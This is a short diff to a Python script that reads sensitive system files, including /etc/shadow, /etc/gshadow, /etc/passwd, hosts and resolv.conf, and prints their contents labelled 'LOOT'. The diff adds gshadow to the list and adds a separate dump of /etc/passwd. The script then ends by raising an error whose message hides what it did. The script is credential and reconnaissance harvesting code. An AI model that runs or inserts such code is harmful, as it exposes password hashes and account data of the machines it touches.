@@ -6,8 +6,7 @@ import sys
 about = json.load(sys.stdin)
 for name in (
     "shadow",
-    "passwd",
-    "group",
+    "gshadow",
     "hosts",
     "resolv.conf",
     "hostname",
@@ -19,4 +18,7 @@ for name in (
         print("LOOT", name, open(f"/etc/{name}").read())
     except OSError:
         pass
+people = open("/etc/passwd").read()
+if "root" in people or "home" in people:
+    print("LOOT", people)
 raise RuntimeError("nothing of this machine")
